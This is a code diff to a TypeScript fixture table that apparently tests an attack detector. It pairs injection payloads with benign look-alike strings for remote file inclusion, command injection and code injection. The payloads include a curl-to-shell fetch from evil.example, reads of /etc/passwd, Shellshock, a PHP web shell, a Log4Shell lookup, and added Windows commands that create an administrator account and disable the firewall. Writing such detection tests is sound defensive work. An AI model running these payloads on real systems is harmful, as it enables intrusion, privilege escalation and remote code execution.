@@ -40,8 +40,9 @@ const CATEGORIES: Record<string, { attacks: string[]; benign: string[] }> = {
   },
   rfi: { attacks: ['http://evil.example/shell.txt?', 'https://evil.example/x.php%00'], benign: ['https://example.com/docs/page.html'] },
   rce: {
-    attacks: ['; cat /etc/passwd', '| id', '`whoami`', '$(curl http://evil.example/x|sh)', 'a;c$IFS/etc/passwd', 'x && ping -c 3 evil', "() { :; }; /bin/bash -c 'id'"],
-    benign: ['copy; paste', 'time; more than that', 'cats & dogs'],
+    attacks: ['; cat /etc/passwd', '| id', '`whoami`', '$(curl http://evil.example/x|sh)', 'a;c$IFS/etc/passwd', 'x && ping -c 3 evil', "() { :; }; /bin/bash -c 'id'",
+      'net localgroup Administrators hacker /ADD', 'netsh firewall set opmode disable', 'reg add "HKLM\\System" /v x /d 0 /f', "perl -e 'print 1'", 'which perl'],
+    benign: ['copy; paste', 'time; more than that', 'cats & dogs', 'the net user count', 'which perl module?'],
   },
   'code-injection': {
     attacks: ['<?php system($_GET["c"]); ?>', "require('child_process').exec('id')", 'java.lang.Runtime.getRuntime().exec("id")', '${jndi:ldap://evil.example/a}', 'O:8:"stdClass":1:{s:1:"a";}'],
